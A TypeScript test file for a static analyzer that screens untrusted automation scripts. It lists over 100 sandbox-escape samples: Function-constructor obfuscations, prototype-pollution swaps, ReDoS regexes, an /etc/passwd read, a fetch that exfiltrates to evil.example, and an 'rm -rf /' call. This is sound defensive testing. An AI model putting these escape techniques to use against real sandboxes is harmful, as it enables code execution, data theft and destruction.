// One corpus kept whole on purpose: a table of escape attempts, one row per route, read and extended as a list
// (the rows look alike by design, so a duplicate finder pairs them).
import { describe, expect, it } from 'vitest';
import type { Permission } from '../domain/index.js';
import type { RuleId } from './index.js';
import { analyze, RULES, synthesize } from './index.js';

const ALL_READ: Permission[] = ['screen.capture', 'vision.analyze', 'ocr.read'];

/** Wraps a body in the required module shape so each case exercises exactly one escape route. */
const run = (body: string): string => `export default async function run(input, sdk) {\n${body}\n}`;

/**
 * Escape attempts written for Ironcliw, one per route (and obfuscated variants). Each must be rejected
 * (`safe: false`) and name the rule that catches it. None is ever executed.
 */
const HOSTILE: Array<{
  name: string;
  rule: RuleId;
  code: string;
  permissions?: Permission[];
  /** The transform removes the whole problem (a secret in a comment): synthesize accepts the cleaned module. */
  removedByTransform?: boolean;
}> = [
  // --- module shape, imports, loading
  { name: 'static import', rule: 'no-import', code: `import fs from 'node:fs';\n${run('return fs;')}` },
  {
    name: 'side-effect import',
    rule: 'no-import',
    code: `import 'node:child_process';\n${run('return 1;')}`,
  },
  { name: 'import.meta', rule: 'no-import', code: run('return { answer: import.meta.url, data: {} };') },
  {
    name: 'dynamic import()',
    rule: 'no-dynamic-import',
    code: run("const cp = await import('node:child_process'); return cp;"),
  },
  {
    name: 'require',
    rule: 'no-require',
    code: run("const fs = require('fs'); return fs.readFileSync('/etc/passwd', 'utf8');"),
  },
  {
    name: 'named export besides default',
    rule: 'module-shape',
    code: `export const leak = 1;\n${run('return 1;')}`,
  },
  { name: 'no default export', rule: 'module-shape', code: 'async function run(input, sdk) { return 1; }' },
  {
    name: 'default export not async function',
    rule: 'module-shape',
    code: 'export default function run(input, sdk) { return 1; }',
  },
  { name: 'top-level side effect', rule: 'module-shape', code: `while (input) {}\n${run('return 1;')}` },
  {
    name: 'top-level mutable state shared across runs',
    rule: 'module-shape',
    code: `let calls = 0;\n${run('calls++; return calls;')}`,
  },
  // --- eval and Function, plain and obfuscated
  { name: 'eval', rule: 'no-eval', code: run("return eval('1 + 1');") },
  { name: 'indirect eval (0, eval)', rule: 'no-eval', code: run("return (0, eval)('this');") },
  { name: 'eval aliased', rule: 'no-eval', code: run("const e = eval; return e('1');") },
  {
    name: 'Function constructor',
    rule: 'no-function-constructor',
    code: run("return new Function('return process')();"),
  },
  {
    name: 'Function called without new',
    rule: 'no-function-constructor',
    code: run("return Function('return 1')();"),
  },
  {
    name: 'x.constructor.constructor',
    rule: 'no-function-constructor',
    code: run("return input.constructor.constructor('return process')();"),
  },
  {
    name: '[].fill.constructor',
    rule: 'no-function-constructor',
    code: run("return [].fill.constructor('return globalThis')();"),
  },
  {
    name: 'async function(){}.constructor',
    rule: 'no-function-constructor',
    code: run("const AF = (async function () {}).constructor; return AF('return 1')();"),
  },
  {
    name: 'arrow .constructor',
    rule: 'no-function-constructor',
    code: run("return (() => 0).constructor('return 1')();"),
  },
  {
    name: "computed ['constr'+'uctor']",
    rule: 'no-function-constructor',
    code: run("const f = ''['constr' + 'uctor']['constr' + 'uctor']; return f('return 1')();"),
  },
  {
    name: 'template-literal key',
    rule: 'no-function-constructor',
    code: run('const k = `constr${"uct"}or`; return sdk.log[k];'),
  },
  {
    name: 'const-folded key through bindings',
    rule: 'no-function-constructor',
    code: run("const a = 'cons'; const b = a + 'tructor'; const F = Math.max[b][b]; return F('x');"),
  },
  {
    name: 'unicode escape in identifier',
    rule: 'no-function-constructor',
    code: run("return Math.max.\\u0063onstructor('return 1')();"),
  },
  {
    name: 'unicode escape in string key',
    rule: 'no-function-constructor',
    code: run("return Math.max['\\u0063onstructor']('return 1')();"),
  },
  {
    name: 'hex escape in string key',
    rule: 'no-function-constructor',
    code: run("return Math.max['\\x63onstructor']('return 1')();"),
  },
  {
    name: 'array key stringifies to constructor',
    rule: 'no-function-constructor',
    code: run("return Math.max[['constructor']]('return 1')();"),
  },
  {
    name: 'conditional key',
    rule: 'no-function-constructor',
    code: run("return Math.max[input.x ? 'constructor' : 'name']('return 1')();"),
  },
  {
    name: 'destructuring {constructor}',
    rule: 'no-function-constructor',
    code: run("const { constructor: F } = Math.max; return F('return 1')();"),
  },
  {
    name: 'destructuring shorthand in params',
    rule: 'no-function-constructor',
    code: run("const get = ({ constructor }) => constructor; return get(Math.max)('return 1')();"),
  },
  {
    name: 'optional chaining x?.constructor',
    rule: 'no-function-constructor',
    code: run("return input?.constructor?.constructor('return 1')();"),
  },
  { name: 'Function.prototype', rule: 'no-function-constructor', code: run('return Function.prototype;') },
  // --- with, debugger, labels and other syntax
  {
    name: 'Function via a local dictionary read, then called',
    rule: 'unsafe-computed-member',
    code: run('const d = {}; const k = input.k; return d[k](input.body);'),
  },
  { name: 'debugger', rule: 'no-debugger', code: run('debugger; return 1;') },
  {
    name: 'labels',
    rule: 'disallowed-syntax',
    code: run('outer: for (const a of [1]) { for (const b of [2]) { break outer; } } return 1;'),
  },
  {
    name: 'class extends',
    rule: 'disallowed-syntax',
    code: run('class X extends Object {} return new X();'),
  },
  {
    name: 'this',
    rule: 'disallowed-syntax',
    code: run('const f = function () { return this; }; return f();'),
  },
  {
    name: 'getter in object literal',
    rule: 'disallowed-syntax',
    code: run('return { get answer() { return sdk; }, data: {} };'),
  },
  { name: 'tagged template', rule: 'disallowed-syntax', code: run('const t = (s) => s; return t`x`;') },
  { name: 'generator', rule: 'disallowed-syntax', code: run('function* g() { yield 1; } return [...g()];') },
  {
    name: 'new.target',
    rule: 'disallowed-syntax',
    code: run('function F() { return new.target; } return F();'),
  },
  // --- globals and reach-arounds
  { name: 'process', rule: 'forbidden-global', code: run('return process.env;') },
  { name: 'globalThis', rule: 'forbidden-global', code: run('return globalThis;') },
  { name: 'global', rule: 'forbidden-global', code: run("return global['process'];") },
  { name: 'window/self', rule: 'forbidden-global', code: run('return [window, self];') },
  { name: 'module/exports', rule: 'forbidden-global', code: run('module.exports = 1; return exports;') },
  { name: 'Buffer', rule: 'forbidden-global', code: run("return Buffer.from('x');") },
  { name: 'console', rule: 'forbidden-global', code: run("console.log('x'); return 1;") },
  {
    name: 'arguments',
    rule: 'forbidden-global',
    code: run('function f() { return arguments; } return f();'),
  },
  {
    name: 'shadowing in another scope does not hide a global',
    rule: 'forbidden-global',
    code: run('function a() { const process = 1; return process; } return process.env;'),
  },
  { name: 'assignment to a global', rule: 'forbidden-global', code: run('undefined = 1; return 1;') },
  { name: 'Object.create', rule: 'forbidden-global', code: run('return Object.create(null);') },
  { name: 'Object aliased', rule: 'forbidden-global', code: run('const O = Object; return O;') },
  // --- prototypes and descriptors
  { name: '__proto__ read', rule: 'no-proto', code: run('return ({}).__proto__;') },
  { name: '__proto__ in literal', rule: 'no-proto', code: run('const o = { __proto__: null }; return o;') },
  {
    name: 'prototype write',
    rule: 'no-prototype-write',
    code: run('Array.prototype.push = () => 0; return 1;'),
  },
  {
    name: 'prototype read',
    rule: 'no-prototype-access',
    code: run('const slice = Array.prototype.slice; return slice;'),
  },
  {
    name: 'Object.defineProperty',
    rule: 'no-define-property',
    code: run("Object.defineProperty(input, 'x', { get() { return 1; } }); return 1;"),
  },
  {
    name: 'Object.setPrototypeOf',
    rule: 'no-define-property',
    code: run('Object.setPrototypeOf(input, null); return 1;'),
  },
  {
    name: 'getOwnPropertyDescriptor',
    rule: 'no-define-property',
    code: run("return Object.getOwnPropertyDescriptor(input, 'x');"),
  },
  {
    name: '__defineGetter__',
    rule: 'no-define-property',
    code: run("const o = {}; o.__defineGetter__('x', () => 1); return o;"),
  },
  { name: 'Proxy', rule: 'no-proxy-reflect', code: run('return new Proxy({}, {});') },
  { name: 'Reflect', rule: 'no-proxy-reflect', code: run("return Reflect.get(input, 'x');") },
  {
    name: 'Symbol.for',
    rule: 'no-symbol-for',
    code: run("return Symbol.for('nodejs.util.inspect.custom');"),
  },
  // --- native code, memory, time, network
  { name: 'WebAssembly', rule: 'no-wasm', code: run('return WebAssembly.compile(new Uint8Array(8));') },
  { name: 'SharedArrayBuffer', rule: 'no-shared-memory', code: run('return new SharedArrayBuffer(8);') },
  {
    name: 'Atomics.wait',
    rule: 'no-shared-memory',
    code: run('const a = [0]; Atomics.wait(a, 0, 0); return 1;'),
  },
  { name: 'setTimeout', rule: 'no-timers', code: run('setTimeout(() => 0, 10); return 1;') },
  { name: 'queueMicrotask', rule: 'no-timers', code: run('queueMicrotask(() => 0); return 1;') },
  { name: 'fetch', rule: 'no-network', code: run("return fetch('https://evil.example/?d=' + input.text);") },
  { name: 'WebSocket', rule: 'no-network', code: run("return new WebSocket('wss://evil.example');") },
  { name: 'Worker', rule: 'no-network', code: run("return new Worker('data:,');") },
  // --- stack tricks and reflective calls
  {
    name: 'Error.prepareStackTrace',
    rule: 'no-stack-tricks',
    code: run('Error.prepareStackTrace = (e, s) => s; return new Error().stack;'),
  },
  {
    name: 'Error.captureStackTrace',
    rule: 'no-stack-tricks',
    code: run('const o = {}; Error.captureStackTrace(o); return o;'),
  },
  { name: 'stackTraceLimit', rule: 'no-stack-tricks', code: run('return Error.stackTraceLimit;') },
  {
    name: '.call with a chosen this',
    rule: 'no-reflective-call',
    code: run('return [].map.call(input, (x) => x);'),
  },
  { name: '.apply', rule: 'no-reflective-call', code: run('return Math.max.apply(null, input.list);') },
  // --- computed members and writes
  {
    name: 'run-time key on input',
    rule: 'unsafe-computed-member',
    code: run('const k = input.key; return input[k][k];'),
  },
  {
    name: 'run-time key via string method',
    rule: 'unsafe-computed-member',
    code: run("const k = 'rotcurtsnoc'.split('').reverse().join(''); return Math.max[k];"),
  },
  {
    name: 'calling a member picked by a run-time key on a local object',
    rule: 'unsafe-computed-member',
    code: run('const o = {}; return o[input.k]();'),
  },
  {
    name: 'comma-expression callee of a dynamic member',
    rule: 'unsafe-computed-member',
    code: run('const o = {}; return (0, o[input.k])(input.x);'),
  },
  {
    name: 'destructuring with a computed key',
    rule: 'unsafe-computed-member',
    code: run('const { [input.k]: v } = Math; return v;'),
  },
  {
    name: 'reduce accumulator keyed by input',
    rule: 'unsafe-computed-member',
    code: run('return input.list.reduce((acc, x) => acc[x], {});'),
  },
  {
    name: 'pollution through a dynamic read',
    rule: 'unsafe-member-write',
    code: run("const d = {}; d[input.k].polluted = 'yes'; return 1;"),
  },
  {
    name: 'write into a built-in',
    rule: 'unsafe-member-write',
    code: run('Math.random = () => 4; return 1;'),
  },
  { name: 'write into input', rule: 'unsafe-member-write', code: run('input.x = 1; return input;') },
  {
    name: 'Object.assign into a non-local target',
    rule: 'unsafe-member-write',
    code: run('Object.assign(input, { x: 1 }); return 1;'),
  },
  {
    name: 'destructuring assignment into a member',
    rule: 'unsafe-member-write',
    code: run('[Math.floor] = [() => 0]; return 1;'),
  },
  // --- SDK
  {
    name: 'sdk aliased',
    rule: 'sdk-escape',
    code: run('const s = sdk; return s.actions.click({ x: 1, y: 1 });'),
    permissions: ALL_READ,
  },
  {
    name: 'sdk computed',
    rule: 'sdk-escape',
    code: run("return sdk['actions'].click({ x: 1, y: 1 });"),
    permissions: ALL_READ,
  },
  {
    name: 'sdk method taken as value',
    rule: 'sdk-escape',
    code: run('const click = sdk.actions.click; return click({ x: 1, y: 1 });'),
    permissions: ALL_READ,
  },
  {
    name: 'sdk passed to a helper',
    rule: 'sdk-escape',
    code: run('const go = (s) => s.actions.click({ x: 0, y: 0 }); return go(sdk);'),
    permissions: ALL_READ,
  },
  {
    name: 'sdk destructured in the signature',
    rule: 'sdk-escape',
    code: 'export default async function run(input, { actions }) { return actions.click({ x: 0, y: 0 }); }',
  },
  {
    name: 'sdk destructured in the body',
    rule: 'sdk-escape',
    code: run('const { actions } = sdk; return actions;'),
  },
  {
    name: 'undeclared click permission',
    rule: 'permission-mismatch',
    code: run('await sdk.actions.click({ x: 10, y: 10 }); return 1;'),
    permissions: ALL_READ,
  },
  {
    name: 'undeclared type permission (press)',
    rule: 'permission-mismatch',
    code: run("await sdk.actions.press('ctrl+w'); return 1;"),
    permissions: ALL_READ,
  },
  {
    name: 'unknown sdk method',
    rule: 'unknown-sdk-method',
    code: run('return sdk.host.exec("rm -rf /");'),
    permissions: ALL_READ,
  },
  // --- loops, regexes, sizes
  {
    name: 'while(true) without exit',
    rule: 'infinite-loop',
    code: run('let n = 0; while (true) { n++; } return n;'),
  },
  {
    name: 'for(;;) with break only in an inner loop',
    rule: 'infinite-loop',
    code: run('for (;;) { for (const x of [1]) { break; } } return 1;'),
  },
  {
    name: 'do…while(1) whose break is in a nested function',
    rule: 'infinite-loop',
    code: run('do { [1].forEach(() => { return; }); } while (1); return 1;'),
  },
  {
    name: 'while(!0) with switch break',
    rule: 'infinite-loop',
    code: run('while (!0) { switch (input.x) { case 1: break; } } return 1;'),
  },
  { name: 'ReDoS literal', rule: 'redos', code: run('return /(a+)+$/.test(input.text);') },
  {
    name: 'ReDoS in new RegExp string',
    rule: 'redos',
    code: run("return new RegExp('(x+x+)+y').test(input.text);"),
  },
  {
    name: 'non-constant RegExp',
    rule: 'redos',
    code: run('return new RegExp(input.pattern).test(input.text);'),
  },
  {
    name: 'match with a run-time pattern',
    rule: 'redos',
    code: run('return String(input.text).match(input.pattern);'),
  },
  {
    name: 'oversized string literal',
    rule: 'oversized-literal',
    code: run(`const blob = '${'A'.repeat(11 * 1024)}'; return blob.length;`),
  },
  // --- secrets
  {
    name: 'AWS access key',
    rule: 'secret-literal',
    code: run("const id = 'AKIAIOSFODNN7EXAMPLE'; return id;"),
  },
  {
    name: 'GitHub token',
    rule: 'secret-literal',
    code: run("return 'ghp_' + 'x' + 'ghp_1234567890abcdefghijklmnopqrstuvwxyzAB';"),
  },
  {
    name: 'Slack token in a comment',
    rule: 'secret-literal',
    removedByTransform: true,
    code: `// xoxb-123456789012-abcdefghijkl\n${run('return 1;')}`,
  },
  {
    name: 'PEM private key',
    rule: 'secret-literal',
    code: run("return '-----BEGIN RSA PRIVATE KEY-----\\nMIIE...';"),
  },
  {
    name: 'JWT',
    rule: 'secret-literal',
    code: run(
      "return 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';",
    ),
  },
  {
    name: 'password assignment',
    rule: 'secret-literal',
    code: run("const password = 'Tr0ub4dor&3xQ9!'; return password.length;"),
  },
  {
    name: 'api_key in a URL',
    rule: 'secret-literal',
    code: run("return 'https://api.example.com/v1?api_key=9fA7kQ2xL0pZ4mB8';"),
  },
  {
    name: 'high-entropy base64 blob',
    rule: 'high-entropy-string',
    code: run("return 'Zx9Qm2Lk8Vb4Nc7Rt1Yp6Wg3Hs5Jd0Fa+/Ek2Uo9Iq';"),
  },
  // --- obfuscated variants (string building, escapes, comma expressions, destructuring, accessors, tags)
  {
    name: 'constructor built by a chain of single-letter constants',
    rule: 'no-function-constructor',
    code: run(
      "const c = 'c', o = 'o', n = 'n'; const k = c + o + n + 's' + 't' + 'r' + 'u' + c + 't' + o + 'r'; return Math.max[k][k]('return 1')();",
    ),
  },
  {
    name: 'constructor joined at run time',
    rule: 'unsafe-computed-member',
    code: run("const k = ['con', 'structor'].join(''); return Math.max[k]('return 1')();"),
  },
  {
    name: 'constructor from char codes',
    rule: 'unsafe-computed-member',
    code: run(
      'const k = String.fromCharCode(99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114); return Math.max[k](input.code)();',
    ),
  },
  {
    name: 'unicode code-point escape in identifier',
    rule: 'no-function-constructor',
    code: run("return Math.max.\\u{63}onstructor('return 1')();"),
  },
  {
    name: 'unicode escape inside a template key',
    rule: 'no-function-constructor',
    code: run("return Math.max[`\\u0063onstructor`]('return 1')();"),
  },
  { name: 'unicode-escaped eval', rule: 'no-eval', code: run("return \\u0065val('1');") },
  { name: 'unicode-escaped process', rule: 'forbidden-global', code: run('return \\u0070rocess.env;') },
  {
    name: 'comma expression as key',
    rule: 'no-function-constructor',
    code: run("return Math.max[(0, 'constructor')]('return 1')();"),
  },
  {
    name: 'comma expression around Function',
    rule: 'no-function-constructor',
    code: run("return (0, Function)('return 1')();"),
  },
  {
    name: 'comma expression around an sdk method',
    rule: 'sdk-escape',
    code: run('return (0, sdk.actions.click)({ x: 1, y: 1 });'),
  },
  {
    name: 'nested destructuring reaches constructor',
    rule: 'no-function-constructor',
    code: run("const { max: { constructor: F } } = Math; return F('return 1')();"),
  },
  {
    name: 'destructuring with a default',
    rule: 'no-function-constructor',
    code: run("const { constructor: F = 1 } = Math.max; return F('return 1')();"),
  },
  {
    name: 'array hole then object destructuring',
    rule: 'no-function-constructor',
    code: run("const [, { constructor: F }] = [0, Math.max]; return F('return 1')();"),
  },
  {
    name: 'destructuring in a for-of head',
    rule: 'no-function-constructor',
    code: run("for (const { constructor: F } of [Math.max]) return F('return 1')();"),
  },
  {
    name: 'destructuring in a catch parameter',
    rule: 'no-function-constructor',
    code: run("try { throw Math.max; } catch ({ constructor: F }) { return F('return 1')(); }"),
  },
  {
    name: 'setter in an object literal',
    rule: 'disallowed-syntax',
    code: run('const o = { set x(v) { return v; } }; o.x = 1; return 1;'),
  },
  {
    name: 'getter smuggled through Object.assign',
    rule: 'disallowed-syntax',
    code: run('const o = {}; Object.assign(o, { get x() { return 1; } }); return o.x;'),
  },
  { name: 'String.raw tag', rule: 'disallowed-syntax', code: run('return String.raw`\\x`;') },
  {
    name: 'tagged template with substitutions',
    rule: 'disallowed-syntax',
    code: run('const t = (s, ...v) => v; return t`a${1}b`;'),
  },
  {
    name: 'computed "constructor" on an async arrow',
    rule: 'no-function-constructor',
    code: run("const A = (async () => {})['const' + 'ructor']; return A('return 1')();"),
  },
  {
    name: 'ReDoS pattern assembled from parts',
    rule: 'redos',
    code: run("const p = '(a' + '+)+$'; return new RegExp(p).test(input.t);"),
  },
  {
    name: 'ReDoS string handed to match',
    rule: 'redos',
    code: run("const p = '(a+)' + '+'; return input.t.match(p);"),
  },
  {
    name: 'AWS key split by concatenation',
    rule: 'secret-literal',
    code: run("const k = 'AKIA' + 'IOSFODNN7EXAMPLE'; return k;"),
  },
  {
    name: 'AWS key with a unicode escape',
    rule: 'secret-literal',
    code: run("return '\\u0041KIAIOSFODNN7EXAMPLE';"),
  },
  // --- prototype swaps: a run-time key "__proto__" makes a function the prototype, then "constructor" is Function
  {
    name: 'proto swap: function written through a run-time key',
    rule: 'unsafe-member-write',
    code: run('const d = {}; d[input.a] = Math.max; const F = d[input.b]; return F(input.code)();'),
  },
  {
    name: 'proto swap: logical assignment',
    rule: 'unsafe-member-write',
    code: run('const d = {}; d[input.a] ||= Math.max; const F = d[input.b]; return F(input.code)();'),
  },
  {
    name: 'proto swap: Object.assign from fromEntries',
    rule: 'unsafe-member-write',
    code: run(
      'const d = {}; Object.assign(d, Object.fromEntries([[input.a, Math.max]])); const F = d[input.b]; return F(input.code)();',
    ),
  },
  {
    name: 'proto swap: Object.assign from a computed-key literal',
    rule: 'unsafe-member-write',
    code: run(
      'const d = {}; Object.assign(d, { [input.a]: Math.max }); const F = d[input.b]; return F(input.code)();',
    ),
  },
  {
    name: 'proto swap: destructuring target',
    rule: 'unsafe-member-write',
    code: run('const d = {}; [d[input.a]] = [Math.max]; const F = d[input.b]; return F(input.code)();'),
  },
  {
    name: 'proto swap: for-of target',
    rule: 'unsafe-member-write',
    code: run('const d = {}; for (d[input.a] of [Math.max]); const F = d[input.b]; return F(input.code)();'),
  },
  {
    name: 'proto swap: key changed inside the value (comma expression)',
    rule: 'unsafe-member-write',
    code: run(
      'let k = input.a; const d = {}; d[k] = (k = input.c, d[k]); const F = d[input.b]; return F(input.code)();',
    ),
  },
  {
    name: 'proto swap: reduce accumulator',
    rule: 'unsafe-member-write',
    code: run(
      "const d = input.list.reduce((acc, x) => { acc[x] = Math.max; return acc; }, {}); const F = d[input.b]; return F('x')();",
    ),
  },
  {
    name: 'JSON.parse with a reviver is not data',
    rule: 'unsafe-computed-member',
    code: run("const j = JSON.parse(input.t, (k, v) => Math.max); const F = j[input.k]; return F('x')();"),
  },
  // --- nested writes reach built-ins only through paths that are not literal parts
  {
    name: 'nested write into a built-in held by a literal',
    rule: 'unsafe-member-write',
    code: run('const r = { m: Math }; r.m.random = () => 4; return 1;'),
  },
  {
    name: 'nested write after the literal part was replaced',
    rule: 'unsafe-member-write',
    code: run('const r = { data: {} }; r.data = Math; r.data.random = () => 4; return 1;'),
  },
  {
    name: 'nested write after a run-time-key write on the root',
    rule: 'unsafe-member-write',
    code: run('const r = { data: {} }; r[input.k] = input.v; r.data.random = () => 4; return 1;'),
  },
  // --- sdk, more forms
  { name: 'sdk spread into an object', rule: 'sdk-escape', code: run('const o = { ...sdk }; return o;') },
  { name: 'typeof sdk', rule: 'sdk-escape', code: run('return typeof sdk;') },
  { name: 'new on an sdk method', rule: 'sdk-escape', code: run('return new sdk.screen.capture();') },
  { name: 'sdk logged (passed on)', rule: 'sdk-escape', code: run('sdk.log(sdk); return 1;') },
  {
    name: 'optional chaining does not hide an undeclared action',
    rule: 'permission-mismatch',
    code: run('return sdk?.actions?.click({ x: 1, y: 1 });'),
  },
  {
    name: 'a promise callback that never ends',
    rule: 'infinite-loop',
    code: run('return Promise.resolve(1).then(() => { while (true) {} });'),
  },
  // --- what the transform leaves behind
  {
    name: 'uses a credential the transform removed',
    rule: 'needs-credential',
    code: run('return { answer: __ironcliwRemovedCredential, data: {} };'),
  },
];

describe('hostile corpus: every program rejected by the expected rule', () => {
  it('has at least 60 programs, covering most rules', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
    const covered = new Set(HOSTILE.map((h) => h.rule));
    const uncovered = Object.keys(RULES).filter((r) => !covered.has(r as RuleId));
    // code-too-large and nesting-too-deep have their own tests; nondeterminism is not a rejection.
    expect(uncovered.sort()).toEqual(['code-too-large', 'nesting-too-deep', 'no-with', 'nondeterminism']);
  });

  it('strict-mode-only escapes (with, octal escapes) cannot even be parsed as a module', () => {
    for (const code of ['function f(o) { with (o) { return x; } }', run("return '\\101';")]) {
      expect(() => analyze(code)).toThrowError(
        expect.objectContaining({ code: 'E_CODE_UNPARSABLE' }) as Error,
      );
    }
  });

  it('stays rejected after synthesize (the transform never launders a hostile program)', () => {
    for (const h of HOSTILE) {
      const { report, code } = synthesize(h.code, { permissions: h.permissions ?? ALL_READ });
      if (h.removedByTransform) {
        expect(report.safe, h.name).toBe(true);
        expect(analyze(code).violations).toEqual([]);
        expect(code).not.toContain('xoxb-');
        continue;
      }
      expect(report.safe, h.name).toBe(false);
      const rules = report.violations.map((v) => v.rule);
      // Secrets are removed by the transform; what remains is the use of the removed value.
      const expected: RuleId[] =
        h.rule === 'secret-literal' || h.rule === 'high-entropy-string'
          ? [h.rule, 'needs-credential']
          : [h.rule];
      expect(
        rules.some((r) => expected.includes(r as RuleId)),
        `${h.name}: ${rules.join(',')}`,
      ).toBe(true);
    }
  });

  for (const h of HOSTILE) {
    it(`${h.rule}: ${h.name}`, () => {
      const report = analyze(h.code, { permissions: h.permissions ?? ALL_READ });
      const rules = report.violations.map((v) => v.rule);
      expect(rules).toContain(h.rule);
      expect(report.safe).toBe(false);
      expect(report.score).toBeLessThan(1);
      for (const v of report.violations) {
        expect(v.severity).toBe(RULES[v.rule as RuleId].severity);
        expect(v.line).toBeGreaterThanOrEqual(1);
      }
    });
  }
});
